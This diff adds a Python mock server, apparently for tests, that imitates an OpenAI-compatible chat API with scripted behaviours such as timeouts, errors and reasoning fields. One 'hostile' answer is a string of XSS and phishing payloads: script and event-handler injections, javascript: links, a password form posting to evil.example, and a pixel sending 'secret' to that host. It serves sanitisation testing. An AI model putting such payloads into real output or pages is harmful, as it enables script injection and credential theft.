@@ -1,0 +1,556 @@
+"""A scripted language model server, OpenAI-compatible, for tests, browser journeys and load.
+
+    python -m bench.provider --port 9100
+
+prints `listening on http://127.0.0.1:9100/v1` (port 0 takes a free one). What it answers is decided by the name of
+the model: a behaviour of `BEHAVIOURS`, then anything after a dash (`steady-a` and `steady-b` give different texts),
+then parameters that override the script: `steady?chunks=20&delay=0.1`, `cut?after=3`, `broken?status=502`.
+Anything before a slash is ignored. `GET /calls` lists the calls received, `DELETE /calls` forgets them.
+"""
+
+import argparse
+import asyncio
+import json
+import subprocess
+import sys
+import time
+import urllib.request
+from collections import deque
+from collections.abc import Iterator
+from contextlib import contextmanager, suppress
+from dataclasses import dataclass, fields, replace
+from itertools import count
+from typing import Any
+from urllib.parse import parse_qsl
+
+from aiohttp import web
+
+SECRET = "SCRIPTED-PROVIDER-SECRET-gpt-x"
+"""In every error this server gives: it must never be seen on a page."""
+
+TEXTS = (
+    """\
+## Pourquoi le ciel est-il bleu ?
+
+La lumière du Soleil paraît blanche, mais elle mêle **toutes les couleurs** de l'arc-en-ciel. En traversant
+l'atmosphère, elle rencontre des molécules d'air bien plus petites que sa longueur d'onde.
+
+### Ce qui se passe
+
+- le bleu, d'onde courte, est dévié dans toutes les directions ;
+- le rouge, d'onde longue, passe presque tout droit ;
+- notre œil, peu sensible au violet, retient surtout le bleu.
+
+| Couleur | Longueur d'onde | Diffusion |
+|---|--:|---|
+| Violet | 400 nm | très forte |
+| Bleu | 450 nm | forte |
+| Rouge | 700 nm | faible |
+
+La règle est simple : l'intensité diffusée varie comme l'inverse de la *puissance quatrième* de la longueur d'onde.
+
+```python
+def diffusion(longueur):
+    return (450 / longueur) ** 4
+
+print(round(diffusion(700), 2))
+```
+
+Le soir, les rayons traversent une couche d'air plus épaisse : le bleu s'est perdu en chemin, et l'horizon se teinte
+d'orange puis de rouge. Sur Mars, c'est l'inverse : le couchant y est bleuté !""",
+    """\
+# Préparer une randonnée en famille
+
+Une sortie réussie se prépare la veille : on choisit un parcours **court et varié**, on consulte la météo et l'on
+annonce à chacun ce qui l'attend.
+
+## Dans le sac
+
+1. de l'eau, au moins un litre par personne ;
+2. un vêtement de pluie, même par beau temps ;
+3. une trousse de premiers secours ;
+4. de quoi grignoter à chaque pause.
+
+## Quelle distance ?
+
+| Âge | Distance | Pauses |
+|---|--:|--:|
+| 4 à 6 ans | 4 km | 4 |
+| 7 à 10 ans | 8 km | 3 |
+| Adultes | 15 km | 2 |
+
+> Le rythme du groupe est celui du plus lent.
+
+Pour estimer la durée, ajoutez une heure tous les 300 mètres de montée :
+
+```
+durée = distance / 4 + dénivelé / 300
+```
+
+Ainsi, huit kilomètres et 300 mètres de dénivelé demandent environ *trois heures*, sans compter le pique-nique.
+
+Au retour, laissez les enfants raconter ce qu'ils ont vu : une trace, un oiseau, une vieille borne. C'est souvent là que
+naît l'envie de repartir, dès que les jambes seront un peu mieux reposées, bien entendu.""",
+    """\
+## La Révolution française en bref
+
+Entre 1789 et 1799, la France passe d'une monarchie absolue à une **république**. Les causes sont à la fois politiques,
+sociales et financières.
+
+### Les grandes causes
+
+- la dette de l'État, aggravée par les guerres ;
+- de mauvaises récoltes, qui font monter le prix du pain ;
+- les idées des Lumières, qui circulent dans toute l'Europe.
+
+### Quelques dates
+
+| Date | Événement |
+|---|---|
+| 14 juillet 1789 | prise de la Bastille |
+| 26 août 1789 | Déclaration des droits |
+| 21 septembre 1792 | abolition de la royauté |
+
+Le texte le plus célèbre commence ainsi :
+
+```text
+Les hommes naissent et demeurent libres et égaux en droits.
+```
+
+Les historiens débattent encore de la *Terreur* : réponse aux menaces de la guerre pour les uns, dérive contenue dans
+les principes mêmes pour d'autres.
+
+Retenons enfin que cette période a laissé des traces durables : le système métrique, les départements, l'état civil et
+l'idée que la souveraineté appartient à la nation.""",
+    """\
+# Faire lever une pâte à pain
+
+Quatre ingrédients suffisent : de la farine, de l'eau, du sel et de la levure. Le reste est affaire de **temps** et de
+**température**.
+
+## Les étapes
+
+1. mélanger la farine et l'eau, puis laisser reposer vingt minutes ;
+2. ajouter le sel et la levure, et pétrir dix minutes ;
+3. laisser pousser sous un linge humide ;
+4. façonner, attendre encore, puis enfourner.
+
+## Temps de pousse
+
+| Température | Première pousse | Seconde |
+|---|--:|--:|
+| 18 °C | 3 h | 1 h 30 |
+| 22 °C | 2 h | 1 h |
+| 26 °C | 1 h 15 | 40 min |
+
+Les boulangers comptent en *pourcentage de la farine* :
+
+```yaml
+farine: 100 %
+eau: 65 %
+sel: 2 %
+levure: 1 %
+```
+
+Pour savoir si la pâte est prête, enfoncez-y un doigt : la marque doit remonter lentement. Si elle disparaît aussitôt,
+patientez ; si elle reste, il est temps d'enfourner.
+
+Un bol d'eau chaude placé dans le four donne de la vapeur, et une croûte fine qui chante en refroidissant.
+Attendez au moins une heure avant d'y couper une part.""",
+)
+
+HOSTILE = (
+    """\
+# Texte hostile
+
+<script>window.hostile = "script"</script><style>body { display: none }</style>
+<form action="https://evil.example/vol"><input name="password" autofocus><button>Voter</button></form>
+<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
+<iframe src="https://evil.example/"></iframe><object data="https://evil.example/x.swf"></object>
+<img src="https://evil.example/pixel.gif" onerror="window.hostile = 'onerror'">
+<svg onload="window.hostile = 'svg'"><animate onbegin="window.hostile = 'animate'"></animate></svg>
+<div hx-get="https://evil.example/" hx-trigger="load" data-hx-post="/arene/" ws-send hx-on:click="alert(1)">htmx</div>
+<a id="side-a" name="csrfmiddlewaretoken" class="fr-modal" style="position:fixed;inset:0" href="https://evil.example">x</a>
+</div></article></main><template><p>hors du cadre</template>
+
+![pixel](https://evil.example/pixel.png?q=secret) ![intégrée](data:image/svg+xml;base64,PHN2Zy8+)
+
+[lien](javascript:window.hostile='lien') [donnée](data:text/html,<script>alert(1)</script>) [vb](vbscript:x)
+[blancs](java\tscript:alert(1)) [entité](&#106;avascript:alert(1)) <javascript:alert(1)> [relatif](//evil.example/)
+[titre](https://evil.example "\\" onmouseover=\\"window.hostile='titre'")
+
+Texte inversé : \u202eelbisivni\u202c, isolé \u2066caché\u2069, sans largeur : a\u200bb, NUL : \u0000,
+annexe \U000e0041.
+
+| <script>alert(1)</script> | [x](javascript:alert(1)) |
+|---|---|
+| `<img src=x onerror=alert(1)>` | &lt;script&gt;alert(1)&lt;/script&gt; |
+
+$$\\href{javascript:alert(1)}{x}$$ et $\\text{<script>alert(1)</script>}$
+
+"""
+    + "".join(f"{'  ' * depth}- niveau {depth + 1}\n" for depth in range(100))
+    + "\n"
+    + "> " * 100
+    + "cité\n\n"
+    + "**" * 200
+    + "[" * 200
+    + '\n\n```html" onmouseover="window.hostile = 1\n<script>window.hostile = "fence"</script>\n'
+    + "une clôture jamais fermée"
+)
+"""Markdown that a page must survive. What runs would set `window.hostile`; what loads would call evil.example."""
+
+
+@dataclass(frozen=True)
+class Script:
+    """What a behaviour does. Times are in seconds, `size` in characters."""
+
+    status: int = 200
+    code: str = ""
+    """Of the error, whether a status or an event gives it."""
+    first: float = 0.1
+    delay: float = 0.02
+    chunks: int = 200
+    size: int = 5
+    text: int = -1
+    """Index in TEXTS; by the last letter of the model's name if negative."""
+    source: str = "text"
+    """text, echo, hostile, line (one line of `chunks` × `size` characters) or empty."""
+    reasoning: str = ""
+    """The field that carries reasoning before the answer, or "tags" for <think> tags."""
+    after: int = -1
+    """Chunks after which `end` happens; all of them if negative."""
+    end: str = "stop"
+    """stop, or: silence, cut (the connection), error (an event), else a finish reason."""
+    usage: str = "last"
+    """last (after the finish reason), with (it) or none."""
+    once: int = 0
+    """Fail only the first so many calls to this very model name."""
+
+
+QUICK = Script(first=0, delay=0, chunks=20, size=50)
+BEHAVIOURS = {
+    "steady": Script(),
+    "paced": Script(),
+    "quick": QUICK,
+    "slow": Script(first=0.5, delay=0.05),
+    "echo": replace(QUICK, source="echo"),
+    "timeout-before": replace(QUICK, after=0, end="silence"),
+    "timeout-after": replace(QUICK, after=5, end="silence"),
+    "cut": replace(QUICK, after=5, end="cut"),
+    "error-event": replace(QUICK, after=5, end="error"),
+    "empty": replace(QUICK, source="empty"),
+    "filtered": replace(QUICK, source="empty", end="content_filter"),
+    "length": replace(QUICK, after=5, end="length"),
+    "rate-limited": Script(status=429, code="rate_limit_exceeded"),
+    "broken": Script(status=500, code="server_error"),
+    "unauthorized": Script(status=401, code="invalid_api_key"),
+    "not-found": Script(status=404, code="model_not_found"),
+    "context-too-long": Script(status=400, code="context_length_exceeded"),
+    "policy": Script(status=400, code="content_policy_violation"),
+    "flaky-once": replace(QUICK, status=503, code="overloaded", once=1),
+    "hostile": replace(QUICK, source="hostile"),
+    "huge-line": replace(QUICK, source="line", chunks=1, size=1_000_000),
+    "usage-after-finish": QUICK,
+    "usage-with-finish": replace(QUICK, usage="with"),
+    "no-usage": replace(QUICK, usage="none"),
+    "reasoning": replace(QUICK, reasoning="reasoning_content"),
+    "reasoning-openrouter": replace(QUICK, reasoning="reasoning"),
+    "reasoning-tags": replace(QUICK, reasoning="tags"),
+}
+THOUGHT = "La personne attend une réponse claire. Je vérifie les faits, puis je rédige."
+
+
+def script_of(model: str) -> Script:
+    """The script that a model's name asks for; `quick` if it names none."""
+    name, _, query = model.partition("?")
+    name = name.rpartition("/")[2]
+    known = [key for key in BEHAVIOURS if name == key or name.startswith(f"{key}-")]
+    script = BEHAVIOURS[max(known, key=len, default="quick")]
+    types: dict[str, Any] = {field.name: type(getattr(script, field.name)) for field in fields(script)}
+    script = replace(script, **{key: types[key](value) for key, value in parse_qsl(query) if key in types})
+    return replace(script, text=ord(name[-1:] or "a") % len(TEXTS)) if script.text < 0 else script
+
+
+def pieces_of(script: Script, prompt: str) -> list[str]:
+    """The answer, cut as it will be sent."""
+    whole = {
+        "text": lambda: TEXTS[script.text % len(TEXTS)],
+        "echo": lambda: prompt,
+        "hostile": lambda: HOSTILE,
+        "line": lambda: "mot " * (script.chunks * script.size // 4),
+        "empty": lambda: "",
+    }[script.source]()
+    if script.source == "text":
+        length = script.chunks * script.size
+        whole = "\n\n".join([whole] * (length // len(whole) + 1))[:length]
+    pieces = [whole[start : start + script.size] for start in range(0, len(whole), script.size)]
+    return pieces if script.after < 0 else pieces[: script.after]
+
+
+class Provider:
+    """The server's state: the calls it received."""
+
+    def __init__(self) -> None:
+        self.calls: deque[dict[str, Any]] = deque(maxlen=20_000)
+        self._numbers = count(1)
+        self._failed: dict[str, int] = {}
+
+    def application(self) -> web.Application:
+        """The routes."""
+        application = web.Application(client_max_size=16 * 1024 * 1024)
+        application.router.add_post("/v1/chat/completions", self.complete)
+        application.router.add_get("/v1/models", self.list_models)
+        application.router.add_get("/calls", self.list_calls)
+        application.router.add_delete("/calls", self.forget_calls)
+        return application
+
+    async def list_models(self, request: web.Request) -> web.Response:
+        """OpenAI's list of models."""
+        data = [{"id": name, "object": "model", "owned_by": "bench"} for name in BEHAVIOURS]
+        return web.json_response({"object": "list", "data": data})
+
+    async def list_calls(self, request: web.Request) -> web.Response:
+        """What was received, oldest first."""
+        return web.json_response(list(self.calls))
+
+    async def forget_calls(self, request: web.Request) -> web.Response:
+        """Empty the list; models that fail once will fail again."""
+        self.calls.clear()
+        self._failed.clear()
+        return web.Response(status=204)
+
+    async def complete(self, request: web.Request) -> web.StreamResponse:
+        """A chat completion, as its model's name scripts it."""
+        body = await request.json()
+        model = str(body.get("model", ""))
+        script = self._due(model, script_of(model))
+        call = self._note(body)
+        try:
+            if script.status != 200:
+                call["state"] = "refused"
+                return web.json_response({"error": error_of(script, request)}, status=script.status)
+            if not body.get("stream"):
+                call["state"] = "done"
+                return web.json_response(whole_answer(script, body, call["id"]))
+            response = await Stream(request, script, body, call).send()
+            call["state"] = "done" if script.end not in ("cut", "silence") else script.end
+            return response
+        except (asyncio.CancelledError, ConnectionError):
+            call["state"] = "hung_up"
+            call["hung_up"] = True
+            raise
+
+    def _due(self, model: str, script: Script) -> Script:
+        """The script, healed if it has failed as often as it must."""
+        if not script.once:
+            return script
+        self._failed[model] = self._failed.get(model, 0) + 1
+        return script if self._failed[model] <= script.once else replace(script, status=200)
+
+    def _note(self, body: dict[str, Any]) -> dict[str, Any]:
+        messages = body.get("messages") or []
+        call = {
+            "id": f"gen-{next(self._numbers)}",
+            "model": body.get("model"),
+            "messages": len(messages),
+            "roles": [message.get("role") for message in messages],
+            "temperature": body.get("temperature"),
+            "max_tokens": body.get("max_tokens"),
+            "fields": sorted(body),
+            "state": "running",
+            "sent": 0,
+            "hung_up": False,
+        }
+        self.calls.append(call)
+        return call
+
+
+class Stream:
+    """One answer being streamed."""
+
+    def __init__(self, request: web.Request, script: Script, body: dict[str, Any], call: dict[str, Any]) -> None:
+        self.request = request
+        self.script = script
+        self.call = call
+        self.pieces = pieces_of(script, prompt_of(body))
+        self.wants_usage = bool((body.get("stream_options") or {}).get("include_usage"))
+        self.usage = usage_of(body, self.pieces)
+        self.response = web.StreamResponse(headers={"Content-Type": "text/event-stream", "Cache-Control": "no-cache"})
+        head = {
+            "id": call["id"],
+            "object": "chat.completion.chunk",
+            "created": int(time.time()),
+            "model": body["model"],
+        }
+        self.head = json.dumps(head, ensure_ascii=False)[:-1]
+
+    async def send(self) -> web.StreamResponse:
+        """Play the script to its end."""
+        await self.response.prepare(self.request)
+        await self.response.write(b": SCRIPTED PROCESSING\n\n")
+        if self.script.first:
+            await asyncio.sleep(self.script.first)
+        await self.response.write(self._event({"role": "assistant", "content": ""}))
+        await self._think()
+        await self._answer()
+        await self._finish()
+        return self.response
+
+    async def _think(self) -> None:
+        field = self.script.reasoning
+        if field == "tags":
+            self.pieces[:0] = ["<thi", "nk>", THOUGHT, "</th", "ink>\n\n"]
+        elif field:
+            for start in range(0, len(THOUGHT), 20):
+                await self.response.write(self._event({field: THOUGHT[start : start + 20]}))
+
+    async def _answer(self) -> None:
+        write, delay, call = self.response.write, self.script.delay, self.call
+        loop = asyncio.get_running_loop()
+        due = loop.time()
+        for event in [self._event({"content": piece}) for piece in self.pieces]:
+            await write(event)
+            call["sent"] += 1
+            if delay:
+                due += delay
+                await asyncio.sleep(due - loop.time())
+
+    async def _finish(self) -> None:
+        end = self.script.end
+        if end == "silence":
+            await asyncio.sleep(3600)
+        elif end == "cut":
+            if self.request.transport:
+                self.request.transport.abort()
+        elif end == "error":
+            error = {"error": error_of(self.script, self.request)}
+            await self.response.write(b"data: " + json.dumps(error).encode() + b"\n\n")
+        else:
+            await self._close(end)
+
+    async def _close(self, reason: str) -> None:
+        usage = self.usage if self.wants_usage else None
+        kind = self.script.usage
+        await self.response.write(self._event({}, reason, usage if kind == "with" else None))
+        if usage and kind == "last":
+            last = f'data: {self.head}, "choices": [], "usage": {json.dumps(usage)}}}\n\n'
+            await self.response.write(last.encode())
+        await self.response.write(b"data: [DONE]\n\n")
+
+    def _event(self, delta: dict[str, str], reason: str | None = None, usage: dict[str, int] | None = None) -> bytes:
+        choice = json.dumps({"index": 0, "delta": delta, "finish_reason": reason}, ensure_ascii=False)
+        figures = f', "usage": {json.dumps(usage)}' if usage else ""
+        return f'data: {self.head}, "choices": [{choice}]{figures}}}\n\n'.encode()
+
+
+def prompt_of(body: dict[str, Any]) -> str:
+    """The last message of the user."""
+    return next((m["content"] for m in reversed(body.get("messages") or []) if m.get("role") == "user"), "")
+
+
+def usage_of(body: dict[str, Any], pieces: list[str]) -> dict[str, int]:
+    """Made-up counts that a test can foresee: a token a word of the messages, a token a piece of the answer."""
+    words = sum(len(str(message.get("content", "")).split()) for message in body.get("messages") or [])
+    return {"prompt_tokens": words, "completion_tokens": len(pieces), "total_tokens": words + len(pieces)}
+
+
+def error_of(script: Script, request: web.Request) -> dict[str, Any]:
+    """An error that says everything that must not be shown: the provider, the model and the key."""
+    key = request.headers.get("Authorization", "")
+    hint = "maximum context length is 4096 tokens; " if script.code == "context_length_exceeded" else ""
+    message = f"{SECRET}: {hint}{script.code or 'server_error'} ({key})"
+    return {"message": message, "type": script.code or "server_error", "code": script.code or "server_error"}
+
+
+def whole_answer(script: Script, body: dict[str, Any], generation_id: str) -> dict[str, Any]:
+    """An answer that is not streamed."""
+    pieces = pieces_of(script, prompt_of(body))
+    message = {"role": "assistant", "content": "".join(pieces)}
+    return {
+        "id": generation_id,
+        "object": "chat.completion",
+        "created": int(time.time()),
+        "model": body["model"],
+        "choices": [{"index": 0, "message": message, "finish_reason": "stop"}],
+        "usage": usage_of(body, pieces),
+    }
+
+
+class Running:
+    """A provider in a process of its own, seen from a test."""
+
+    def __init__(self, url: str, process: "subprocess.Popen[str]") -> None:
+        self.url = url
+        """The base URL for an endpoint, ending in /v1."""
+        self.process = process
+
+    def calls(self, model: str = "") -> list[dict[str, Any]]:
+        """The calls received, of one model if named."""
+        calls: list[dict[str, Any]] = json.loads(self._request("GET"))
+        return [call for call in calls if not model or call["model"] == model]
+
+    def wait_for(self, model: str, state: str, seconds: float = 10) -> dict[str, Any]:
+        """The last call of a model once it is in a state: done, refused, hung_up, cut or running."""
+        end = time.monotonic() + seconds
+        while time.monotonic() < end:
+            calls = self.calls(model)
+            if calls and calls[-1]["state"] == state:
+                return calls[-1]
+            time.sleep(0.02)
+        raise AssertionError(f"{model} is not {state}: {self.calls(model)}")
+
+    def reset(self) -> None:
+        """Forget the calls and the failures due once."""
+        self._request("DELETE")
+
+    def _request(self, method: str) -> bytes:
+        request = urllib.request.Request(self.url.removesuffix("/v1") + "/calls", method=method)
+        with urllib.request.urlopen(request, timeout=10) as response:
+            body: bytes = response.read()
+        return body
+
+
+@contextmanager
+def running(port: int = 0) -> Iterator[Running]:
+    """Start a provider, wait until it listens, and stop it at the end. It dies with its parent in any case."""
+    command = [sys.executable, "-m", "bench.provider", "--port", str(port), "--with-parent"]
+    process = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
+    try:
+        line = process.stdout.readline() if process.stdout else ""
+        if not line.startswith("listening on "):
+            raise RuntimeError(f"the scripted provider did not start (exit code {process.poll()})")
+        yield Running(line.removeprefix("listening on ").strip(), process)
+    finally:
+        process.terminate()
+        process.communicate(timeout=10)
+
+
+async def serve(host: str, port: int, with_parent: bool) -> None:
+    """Listen until the process is told to stop."""
+    runner = web.AppRunner(Provider().application(), handler_cancellation=True, access_log=None, shutdown_timeout=0.1)
+    await runner.setup()
+    await web.TCPSite(runner, host, port, backlog=1024).start()
+    print(f"listening on http://{host}:{runner.addresses[0][1]}/v1", flush=True)
+    try:
+        if with_parent:
+            await asyncio.to_thread(sys.stdin.read)
+        else:
+            await asyncio.Event().wait()
+    finally:
+        await runner.cleanup()
+
+
+def main() -> None:
+    """The command line."""
+    parser = argparse.ArgumentParser(description="A scripted OpenAI-compatible server.")
+    parser.add_argument("--host", default="127.0.0.1")
+    parser.add_argument("--port", type=int, default=9100)
+    parser.add_argument("--with-parent", action="store_true", help="stop when the standard input closes")
+    arguments = parser.parse_args()
+    with suppress(KeyboardInterrupt):
+        asyncio.run(serve(arguments.host, arguments.port, arguments.with_parent))
+
+
+if __name__ == "__main__":
+    main()
